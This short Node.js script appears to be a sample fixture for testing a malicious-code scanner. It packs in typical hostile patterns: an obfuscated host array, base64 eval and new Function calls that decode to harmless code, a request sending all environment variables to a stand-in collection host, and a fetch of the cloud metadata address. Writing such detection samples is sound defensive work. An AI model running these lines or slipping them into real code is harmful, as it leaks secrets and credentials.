#!/usr/bin/env node
// eval(Buffer.from("comment")) in a comment does not count
const https = require('https');
const { execSync } = require("child_process");
var _0x1a2b = ['\x68\x74\x74\x70', 'webhook.site'];
function _0x3c4d(_0x5e6f) { return _0x1a2b[_0x5e6f]; }
const payload = JSON.stringify(process.env);
const re = /https:\/\/not-a-url-in-regex\.invalid/g;
eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());
new Function(atob('cmV0dXJuIDE='))();
https.request(`https://abc.workers.dev/collect?d=${encodeURIComponent(payload)}`);
fetch("http://169.254.169.254/latest/meta-data/");
const t = "send to exfil.oast.fun now";
